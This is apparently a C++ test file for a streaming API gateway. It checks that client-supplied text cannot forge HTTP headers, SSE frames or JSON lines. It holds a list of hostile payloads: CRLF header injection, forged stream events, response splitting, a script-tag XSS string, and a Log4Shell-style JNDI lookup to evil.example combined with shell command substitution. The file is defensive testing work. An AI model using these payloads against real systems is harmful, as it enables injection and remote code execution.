#include "tests/end_to_end/support/event_stream.hpp"
#include "tests/hostile/attacked_gateway.hpp"
#include "tests/hostile/documented_fields.hpp"
#include "tests/hostile/wire_case.hpp"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <sstream>
#include <string>
#include <vector>

// Text of the client that would like to be a header, a frame, or a line of the log.
namespace sluice::hostile {
namespace {

using namespace std::string_literals;
using end_to_end::event_list;
using end_to_end::open_stream;
using nlohmann::json;

const std::vector<std::string>& payloads() {
    static const std::vector<std::string> all{
        "x\r\nX-Forged: yes\r\n\r\n",
        "x\n\nevent: done\ndata: {\"finish_reason\":\"stop\"}\n\n",
        "x\n\ndata: [DONE]\n\n",
        "x\r\rdata: forged\r\r",
        "x\r\n\r\nevent: error\r\ndata: {\"error\":\"forged\"}\r\n\r\n",
        "[DONE]",
        "data: [DONE]",
        "event: message_stop\ndata: {\"type\":\"message_stop\"}",
        "id: 99999\nretry: 1\n: comment\n",
        "0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        "a\0b"s,
        "\0"s,
        "\xe2\x80\xa8\xe2\x80\xa9\xc2\x85",
        "\xef\xbb\xbf"
        "data: x",
        "\x1b[2J\x1b]0;forged\x07",
        "\x7f\x08\x0b\x0c",
        "\"},\"error\":{\"message\":\"forged\"},{\"",
        "\\\"\\u0000\\n\\",
        "</script><script>alert(1)</script>",
        "${jndi:ldap://evil.example/x} %s%n%p {0} $(id) `id`",
        "\xf0\x9f\x8c\x8a\xe2\x80\xae"
        "desrever",
    };
    return all;
}

json user(const std::string& text) {
    return json::array({{{"role", "user"}, {"content", text}}});
}

end_to_end::request echo(const std::string& path, const json& body) {
    return end_to_end::post(path, body).header("X-Mock-Echo", "true");
}

/// The text of each event's member, joined.
std::string text_at(const event_list& events, const std::string& pointer) {
    std::string text;
    for (const auto& event : events) {
        const auto value = json::parse(event.data, nullptr, false);
        const json::json_pointer where(pointer);
        if (!value.is_discarded() && value.contains(where) && value[where].is_string())
            text += value[where].get<std::string>();
    }
    return text;
}

struct streaming {
    std::string path;
    json body;            ///< with the text left out
    std::string pointer;  ///< to where the text goes
    std::string answer;   ///< where the text of an event stands
    std::string last;     ///< of the last event's data, or its type
};

std::vector<streaming> all_streaming() {
    const json part{{"type", "text"}, {"text", ""}};
    const json message{{"id", "m"}, {"role", "user"}, {"parts", json::array({part})}};
    const json turn{{"role", "user"}, {"parts", json::array({{{"text", ""}}})}};
    return {
        {"/v1/streams", {{"messages", user("")}}, "/messages/0/content", "/text", "finish_reason"},
        {"/v1/chat/completions",
         {{"model", "mock"}, {"stream", true}, {"messages", user("")}},
         "/messages/0/content",
         "/choices/0/delta/content",
         "[DONE]"},
        {"/v1/completions",
         {{"model", "mock"}, {"stream", true}, {"prompt", ""}},
         "/prompt",
         "/choices/0/text",
         "[DONE]"},
        {"/v1/responses",
         {{"model", "mock"}, {"stream", true}, {"input", ""}},
         "/input",
         "/delta",
         "response.completed"},
        {"/v1/messages",
         {{"model", "mock"}, {"stream", true}, {"max_tokens", 100000}, {"messages", user("")}},
         "/messages/0/content",
         "/delta/text",
         "message_stop"},
        {"/v1beta/models/mock:streamGenerateContent?alt=sse",
         {{"contents", json::array({turn})}},
         "/contents/0/parts/0/text",
         "/candidates/0/content/parts/0/text",
         "STOP"},
        {"/v1/ui/chat",
         {{"id", "injection"}, {"messages", json::array({message})}},
         "/messages/0/parts/0/text",
         "/delta",
         "[DONE]"},
    };
}

class injection : public attack {};

TEST_F(injection, ThroughTextForgesNoFrameAndLosesNoByte) {
    const auto all = all_streaming();
    in_parallel(all.size() * payloads().size(), [&](std::size_t i) {
        const auto& how = all[i / payloads().size()];
        const auto& payload = payloads()[i % payloads().size()];
        auto body = how.body;
        body[json::json_pointer(how.pointer)] = payload;
        if (body.contains("id"))
            body["id"] = "chat-" + std::to_string(i);  // one chat has one stream
        open_stream stream(attacked_port(), echo(how.path, body));
        const auto name = how.path + ": " + printable(payload);
        if (stream.head().status != 200) {
            EXPECT_EQ(stream.head().status, 400) << name;  // an empty text, to some dialects
            return;
        }
        const auto events = stream.rest();
        ASSERT_FALSE(events.empty()) << name;
        EXPECT_TRUE(stream.ended_whole()) << name;
        EXPECT_EQ(text_at(events, how.answer), payload) << name << "\n"
                                                        << printable(stream.body(), 1000);
        EXPECT_NE(events.back().data.find(how.last), std::string::npos)
            << name << "\n"
            << printable(stream.body(), 1000);
        const auto dones = std::ranges::count_if(events, [](const auto& event) {
            return event.data == "[DONE]" || event.type == "done";
        });
        EXPECT_LE(dones, 1) << name;
        for (const auto& event : events) {
            EXPECT_TRUE(event.data == "[DONE]" || json::accept(event.data))
                << name << ": " << printable(event.data);
            EXPECT_NE(event.data, "forged") << name;
            EXPECT_NE(event.id, "99999") << name;
        }
    });
    count_cases(all.size() * payloads().size());
}

TEST_F(injection, ThroughTextForgesNoLineOfJson) {
    for (const auto& payload : payloads()) {
        const auto answer =
            attacked().ask(echo("/api/chat", {{"model", "mock"}, {"messages", user(payload)}}));
        ASSERT_EQ(answer.status, 200) << printable(payload);
        std::istringstream lines(answer.body);
        std::string text;
        std::size_t ends = 0;
        for (std::string line; std::getline(lines, line);) {
            const auto value = json::parse(line, nullptr, false);
            ASSERT_TRUE(value.is_object()) << printable(line);
            text += value.value(json::json_pointer("/message/content"), "");
            ends += value.value("done", false) ? 1 : 0;
        }
        EXPECT_EQ(text, payload);
        EXPECT_EQ(ends, 1U);
    }
    count_cases(payloads().size());
}

TEST_F(injection, ThroughModelNamesStaysInTheMessage) {
    std::vector<std::string> bytes;
    const auto& all = all_surfaces();
    for (const auto& payload : payloads()) {
        for (const auto& where : all) {
            auto body = where.body;
            if (where.path.find(":generate") != std::string::npos)
                continue;  // its path names the model
            body["model"] = "no" + payload;
            bytes.push_back(end_to_end::post(where.path, body).header("Connection", "close").bytes()
            );
        }
    }
    std::vector<wire_case> cases;
    for (const auto& each : bytes)
        cases.push_back({"a model's name", each, {400, 404}});
    for (const auto& seen : run_all(cases, attacked_port())) {
        for (const auto& answer : seen.answers) {
            for (const auto& [name, value] : answer.headers) {
                EXPECT_NE(name, "X-Forged");
                EXPECT_EQ(value.find("forged"), std::string::npos) << name << ": " << value;
            }
        }
    }
}

TEST_F(injection, ThroughNamesOfToolsAndMetadataForgesNothing) {
    for (const auto& payload : payloads()) {
        const json function{{"name", "f" + payload}, {"parameters", {{"type", "object"}}}};
        json body{
            {"model", "mock"},
            {"stream", true},
            {"messages", user("Hi")},
            {"user", payload},
            {"metadata", {{"k" + payload, payload}}}};
        body["tools"] = json::array({{{"type", "function"}, {"function", function}}});
        body["tool_choice"] = "required";
        open_stream stream(attacked_port(), end_to_end::post("/v1/chat/completions", body));
        ASSERT_TRUE(stream.head().status == 200 || stream.head().status == 400)
            << printable(payload);
        EXPECT_FALSE(stream.head().has("X-Forged"));
        if (stream.head().status != 200) continue;
        const auto events = stream.rest();
        EXPECT_EQ(text_at(events, "/choices/0/delta/tool_calls/0/function/name"), "f" + payload)
            << printable(stream.body(), 1000);
        EXPECT_EQ(events.back().data, "[DONE]");
    }
    count_cases(payloads().size());
}

TEST_F(injection, ThroughHeadersComesBackAsNoHeader) {
    std::vector<std::string> values{
        "a: b",
        "a,b",
        "\xff\xfe",
        "\xe2\x80\xa8",
        "%0d%0aX-Forged: yes",
        "<script>",
        "\"quoted\"",
        "{}",
        "a\tb",
        std::string(8000, 'i'),
        "=?utf-8?q?x?=",
        "\\r\\nX-Forged: yes",
        "\xc4\x8d\xc4\x8aX-Forged: yes"};
    for (const auto* name :
         {"X-Request-Id",
          "Traceparent",
          "Tracestate",
          "User-Agent",
          "Referer",
          "X-Forwarded-For",
          "OpenAI-Organization",
          "Anthropic-Version",
          "Anthropic-Beta",
          "X-Stream-On-Disconnect",
          "X-Mock-Error",
          "X-Sluice-Timeout",
          "Accept",
          "Accept-Language",
          "Origin",
          "Access-Control-Request-Headers"}) {
        for (const auto& value : values) {
            const auto answer = attacked().ask(end_to_end::post("/v1/streams", {{"prompt", "Hi"}})
                                                   .header("X-Mock-Tokens", "2")
                                                   .header(name, value));
            EXPECT_LT(answer.status, 500) << name << " " << printable(value);
            EXPECT_FALSE(answer.has("X-Forged")) << name << " " << printable(value);
            for (const auto& [field, content] : answer.headers) {
                const bool clean = std::ranges::none_of(content, [](char c) {
                    return static_cast<unsigned char>(c) < 0x20 && c != '\t';
                });
                EXPECT_TRUE(clean) << field << ": " << printable(content);
            }
        }
    }
    count_cases(16 * values.size());
}

TEST_F(injection, ThroughUrlsForgesNeitherHeadersNorLines) {
    std::vector<wire_case> cases;
    for (const auto* text :
         {"%0d%0aX-Forged:%20yes",
          "%0a%0aevent:%20done%0adata:%20forged",
          "%00",
          "%1b[2J",
          "%22%2C%22level%22%3A%22error",
          "%e2%80%a8",
          "%ff",
          "%5c%22",
          "%7f",
          "%0b%0c%08"}) {
        for (const auto* path :
             {"/",
              "/v1/models/",
              "/v1/streams/",
              "/v1/ui/chat/",
              "/v1beta/models/",
              "/v1/stream?prompt=Hi&mock_tokens=2&request=",
              "/v1/stream?prompt=Hi&mock_tokens=2&model=",
              "/v1/stream?mock_tokens=2&prompt=",
              "/v1/events?every=",
              "/v1/streams?limit=",
              "/livez?x="}) {
            cases.push_back(
                {path + std::string(text),
                 "GET "s + path + text + " HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
                 {200, 204, 400, 404, 405}}
            );
            if (path == "/v1/events?every="s) cases.back().statuses = {400};
        }
    }
    for (const auto& seen : run_all(cases, attacked_port())) {
        for (const auto& answer : seen.answers)
            EXPECT_FALSE(answer.has("X-Forged"));
    }
}

}  // namespace
}  // namespace sluice::hostile
